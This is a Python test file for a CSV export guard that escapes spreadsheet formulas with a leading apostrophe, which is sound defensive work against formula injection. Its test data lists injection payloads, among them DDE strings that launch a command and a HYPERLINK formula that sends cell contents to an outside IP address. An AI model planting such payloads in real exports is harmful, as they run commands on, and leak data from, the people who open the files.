"""No text of a supplier is a formula to a spreadsheet."""

from __future__ import annotations

import csv
import io

import pyarrow as pa
import pytest

from sandboxctl.data.sinks.guard import guarded
from sandboxctl.data.sinks.text import csv_cells, csv_lines

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://203.0.113.1?"&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "+A1",
    "-A1",
    "--=1",
]
PLAIN = ["-5", "-5.25", "+44 7700 900123", "+1 (202) 555-0100", "a=b", "", "–", "é", "＂", "'=1"]


def cells(batch: pa.RecordBatch) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_cells(batch).decode(), newline="")))


def column(texts: list[str | None]) -> pa.Array:
    return pa.array(texts, pa.string())


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_stands_behind_an_apostrophe(text: str) -> None:
    assert guarded(column([text, "plain", None])).to_pylist() == [f"'{text}", "plain", None]


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_telephones_and_other_texts_stay(text: str) -> None:
    assert guarded(column([text, None])).to_pylist() == [text, None]


def test_each_text_by_itself_wherever_a_chunk_begins() -> None:
    whole = column([*PLAIN, *FORMULAS, None])
    parts = [guarded(whole.slice(n, 1)).to_pylist()[0] for n in range(len(whole))]
    assert guarded(whole).to_pylist() == parts
    assert guarded(whole.slice(0, 0)).to_pylist() == []


def test_only_texts_are_guarded_and_only_for_people() -> None:
    texts = column(["=1", "b"])
    batch = pa.RecordBatch.from_pydict(
        {"n": pa.array([-1, 2]), "t": texts, "d": texts.dictionary_encode()}
    )
    assert cells(batch) == [["-1", "'=1", "'=1"], ["2", "b", "b"]]
    assert csv_lines(batch) == b'-1,"=1","=1"\n2,"b","b"\n'
